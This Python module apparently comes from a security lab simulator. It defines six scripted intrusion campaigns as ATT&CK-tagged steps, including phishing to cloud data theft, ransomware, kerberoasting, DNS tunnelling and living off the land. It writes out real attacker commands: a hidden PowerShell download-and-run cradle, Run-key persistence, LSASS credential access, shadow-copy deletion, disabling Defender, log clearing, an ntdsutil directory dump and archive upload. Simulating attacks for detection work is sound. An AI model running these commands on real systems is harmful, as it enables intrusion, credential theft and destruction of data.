"""Campaigns that begin on a laptop: by a document, by a stolen password, by what the system itself brings."""

from __future__ import annotations

from nonself.lab.attacks.cloud_moves import Cloud
from nonself.lab.attacks.moves import (
    Directory,
    Encrypt,
    Enter,
    Open,
    Poll,
    Register,
    Remote,
    Run,
    Script,
    Start,
    Tickets,
    Transfer,
    Tunnel,
    Visit,
    Write,
)
from nonself.lab.attacks.plan import Campaign, Step
from nonself.lab.world.emit_cloud import Call

_DOWNLOAD = (
    "$w=New-Object Net.WebClient;$p=$env:APPDATA+'\\Microsoft\\Shared\\{program}';$w.DownloadFile('https://{delivery}/a/{token}',$p);& $p"
)
_ENCODED = "powershell.exe -nop -w hidden -enc {encoded}"
_RUN_KEY = "HKU\\{sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\SharedHost"
_PACK = '"{packer}" a -mx1 -v600m -p{token} {archive}.7z D:\\Shares\\finance'
_UPLOAD = "{uploader} copy {folder} box:q1 --transfers 1"

DOCUMENT = (
    Step("attachment saved", "T1566.001", 0, Write("mail", ("{document}",))),
    Step("document opened", "T1204.002", 0.1, Start("word", "mail", "winword", '"{word}" /n "{document}"')),
    Step("encoded shell", "T1059.001", 0.5, Start("shell", "word", "powershell", _ENCODED, script=_DOWNLOAD)),
    Step("download", "T1105", 0.05, Transfer("shell", "delivery", 900, 780_000, 3)),
    Step("program written", "T1105", 0.1, Write("shell", ("{payload}",))),
    Step("program started", "T1036.005", 0.05, Start("payload", "shell", "program", '"{payload}"', image="{payload}")),
    Step("run key", "T1547.001", 2, Register("payload", _RUN_KEY, '"{payload}"')),
    Step("orders asked for", "T1071.001", 1, Poll("payload", "orders", 5, 0.2, 17)),
    Step("who am i", "T1033", 28, Run("payload", "whoami", "whoami /all")),
    Step("administrators", "T1069.002", 2, Run("payload", "net", 'net group "Domain Admins" /domain')),
    Step("trusts", "T1482", 3, Run("payload", "nltest", "nltest /domain_trusts /all_trusts")),
    Step("controllers", "T1018", 1, Run("payload", "nltest", "nltest /dclist:")),
    Step("addresses", "T1016", 2, Run("payload", "ipconfig", "ipconfig /all")),
    Step("system", "T1082", 2, Run("payload", "systeminfo", "systeminfo", 6)),
    Step("shares", "T1135", 4, Run("payload", "net", "net view \\\\{server} /all")),
    Step("credentials opened", "T1003.001", 45, Open("payload", "lsass", "0x1fffff")),
    Step("credentials written", "T1003.001", 0.05, Write("payload", ("{dump}",))),
    Step("server entered", "T1021.002", 0, Enter("psexesvc"), clock=(0, 18.4)),
    Step("shell on server", "T1569.002", 0.2, Start("console", "service", "cmd", '"cmd.exe"')),
    Step("files listed", "T1083", 4, Run("console", "cmd", "dir D:\\Shares\\finance D:\\Shares\\engineering /s /b", 8)),
    Step("keys found", "T1552.001", 9, Run("console", "cmd", 'findstr /s /i /m "aws_secret_access_key" D:\\Shares\\engineering\\*', 40)),
    Step("archiver", "T1560.001", 0, Start("packer", "console", "7z", _PACK), clock=(1, 1.7)),
    Step("archive", "T1560.001", 0.5, Write("packer", ("{archive}.7z.001", "{archive}.7z.002", "{archive}.7z.003"))),
    Step("uploader", "T1105", 9, Write("console", ("{uploader}",))),
    Step("upload started", "T1567.002", 2, Start("upload", "console", "uploader", _UPLOAD, image="{uploader}")),
    Step("upload", "T1567.002", 0.1, Transfer("upload", "box", 500_000_000, 240_000, 420, 3)),
    Step("archive removed", "T1070.004", 26, Run("console", "cmd", "del /q {archive}.7z.* {uploader}")),
    Step("stolen key tried", "T1078.004", 0, Cloud((Call("sts", "GetCallerIdentity"),)), clock=(1, 9.3)),
    Step("users listed", "T1087.004", 2, Cloud((Call("iam", "ListUsers", error="AccessDenied"),))),
    Step("buckets listed", "T1619", 1, Cloud((Call("s3", "ListBuckets", {"Host": "s3.amazonaws.com"}),))),
    Step("objects listed", "T1619", 3, Cloud((Call("s3", "ListObjects", {"bucketName": "tidewell-billing-exports"}),))),
    Step("objects fetched", "T1530", 2, Cloud((), "tidewell-billing-exports", "GetObject",
         tuple(f"2025/{month:02d}/customers-{part}.parquet" for month in range(1, 13) for part in (1, 2)))),
    Step("key made", "T1098.001", 7, Cloud((Call("iam", "CreateAccessKey", {"userName": "svc_deploy"}, read=False),))),
)  # fmt: skip

_ENTRY = DOCUMENT[:7]
_BY_SCRIPT = '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden'

RANSOM = (
    *_ENTRY,
    Step("orders asked for", "T1071.001", 1, Poll("payload", "orders", 2, 0.3, 6)),
    Step("domain mapped", "T1087.002", 20, Directory("payload", 60)),
    Step("administrators", "T1069.002", 4, Run("payload", "net", 'net group "Domain Admins" /domain')),
    Step("credentials opened", "T1003.001", 20, Open("payload", "lsass", "0x1010")),
    Step("machines tried", "T1021.002", 25, Visit(("fs01", "db01", "bk01"), 5)),
    Step("server entered", "T1021.002", 8, Enter("psexesvc")),
    Step("shell on server", "T1569.002", 0.2, Start("console", "service", "cmd", '"cmd.exe"')),
    Step("protection off", "T1562.001", 3, Run("console", "powershell",
         "powershell.exe -c Set-MpPreference -DisableRealtimeMonitoring $true", 3)),
    Step("copies removed", "T1490", 2, Run("console", "vssadmin", "vssadmin.exe delete shadows /all /quiet", 4)),
    Step("recovery off", "T1490", 0.5, Run("console", "bcdedit", "bcdedit /set {{default}} recoveryenabled no")),
    Step("logs cleared", "T1070.001", 0.5, Run("console", "wevtutil", "wevtutil.exe cl Security")),
    Step("encryptor", "T1105", 1, Write("console", ("{uploader}",))),
    Step("encryptor started", "T1569.002", 0.5, Start("locker", "console", "locker", '"{uploader}" -p D:\\Shares', image="{uploader}")),
    Step("files encrypted", "T1486", 0.1, Encrypt("locker",
         ("D:\\Shares\\finance", "D:\\Shares\\sales", "D:\\Shares\\engineering"), 220, "qlck")),
)  # fmt: skip

KERBEROAST = (
    *_ENTRY,
    Step("orders asked for", "T1071.001", 1, Poll("payload", "orders", 8, 0.25, 30)),
    Step("who am i", "T1033", 15, Run("payload", "whoami", "whoami /groups")),
    Step("service accounts sought", "T1087.002", 6, Directory("payload", 12)),
    Step("tickets", "T1558.003", 4, Tickets(("svc_sql", "svc_backup", "svc_scan", "svc_deploy", "svc_pentest"))),
    Step("database entered", "T1021.002", 0, Visit(("db01",), got=4_000_000), clock=(1, 10.6)),
    Step("backup entered", "T1021.002", 7, Visit(("bk01", "fs01"), got=90_000)),
    Step("query by console", "T1047", 9, Remote("db01", "cmd", "cmd.exe /c sqlcmd -Q \"select name from sys.databases\"", 4)),
    Step("table copied", "T1005", 5, Remote("db01", "cmd", "cmd.exe /c bcp crm.dbo.customer out C:\\Windows\\Temp\\{token}.dat -T -c", 40)),
    Step("table fetched", "T1039", 6, Visit(("db01",), got=180_000_000)),
    Step("upload", "T1041", 12, Transfer("payload", "orders", 180_000_000, 90_000, 300)),
)  # fmt: skip

TUNNEL = (
    *_ENTRY,
    Step("system", "T1082", 8, Run("payload", "systeminfo", "systeminfo", 6)),
    Step("orders by name", "T1071.004", 4, Tunnel("payload", "orders", 160, 20)),
    Step("files listed", "T1083", 30, Run("payload", "cmd", "dir C:\\Users\\{login}\\Documents /s /b", 5)),
    Step("archive", "T1560.001", 6, Write("payload", ("{dump}",))),
    Step("data by name", "T1048.003", 5, Tunnel("payload", "orders", 2_600, 5)),
)  # fmt: skip

SLOW = (
    *_ENTRY,
    Step("orders asked for", "T1071.001", 5, Poll("payload", "orders", 240, 0.35, 240)),
    Step("addresses", "T1016", 0, Run("payload", "ipconfig", "ipconfig /all"), clock=(1, 11.2)),
    Step("shares", "T1135", 0, Run("payload", "net", "net view \\\\{server}"), clock=(2, 14.1)),
    Step("credentials in files", "T1552.001", 0, Visit(("fs01",), own=True, got=3_000_000), clock=(4, 10.3)),
    Step("colleague's laptop", "T1021.002", 0, Visit((), 1), clock=(6, 15.2)),
    Step("server looked at", "T1047", 0, Remote("fs01", "cmd", "cmd.exe /c dir D:\\Shares\\finance"), clock=(7, 9.9)),
    Step("a little taken", "T1039", 0, Visit(("fs01",), got=22_000_000), clock=(8, 10.7)),
    Step("a little sent", "T1041", 40, Transfer("payload", "orders", 21_000_000, 30_000, 200)),
    Step("more taken", "T1039", 0, Visit(("fs01",), got=25_000_000), clock=(10, 11.4)),
    Step("more sent", "T1041", 50, Transfer("payload", "orders", 24_000_000, 30_000, 220)),
)  # fmt: skip

LAND = (
    Step("shell opened", "T1059.001", 0, Start("shell", "desk", "powershell", _BY_SCRIPT)),
    Step("directory asked", "T1087.002", 3, Script("shell", ("Get-ADUser -Filter * -Properties LastLogonDate", "Get-ADComputer -Filter *",
         "Get-ADGroupMember 'Enterprise Admins' | Select-Object Name"))),
    Step("sessions sought", "T1049", 6, Run("shell", "net", "net session \\\\fs01")),
    Step("servers visited", "T1078.002", 8, Visit(("fs01", "db01", "bk01", "dc01"), 3)),
    Step("controller asked", "T1047", 12, Remote("dc01", "nltest", "nltest /domain_trusts /all_trusts")),
    Step("directory copied", "T1003.003", 5, Remote("dc01", "ntdsutil",
         'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\{token}" q q', 60)),
    Step("copy fetched", "T1039", 8, Visit(("dc01",), got=74_000_000)),
    Step("task planned", "T1053.005", 15, Remote("bk01", "schtasks",
         "schtasks /create /ru SYSTEM /sc daily /tn MaintenanceCheck /tr C:\\Windows\\Temp\\chk.cmd")),
    Step("traces removed", "T1070.004", 5, Remote("dc01", "cmd", "cmd.exe /c rmdir /s /q C:\\Windows\\Temp\\{token}")),
    Step("sent out", "T1567.002", 35, Transfer("shell", "box", 70_000_000, 80_000, 260)),
)  # fmt: skip

CAMPAIGNS = (
    Campaign("document-to-cloud", "a document, a timer, credentials, the file server, an upload, a stolen cloud key", DOCUMENT),
    Campaign("ransomware", "a document, the backup and file servers, files encrypted", RANSOM),
    Campaign("kerberoasting", "tickets of service accounts guessed at, the database copied", KERBEROAST),
    Campaign("dns-tunnel", "orders and data hidden in the names that are asked for", TUNNEL),
    Campaign("slow-apt", "eleven days, a call every four hours, a step a day", SLOW),
    Campaign("living-off-the-land", "an administrator's credentials and nothing that is not there already", LAND, hour=11.3),
)
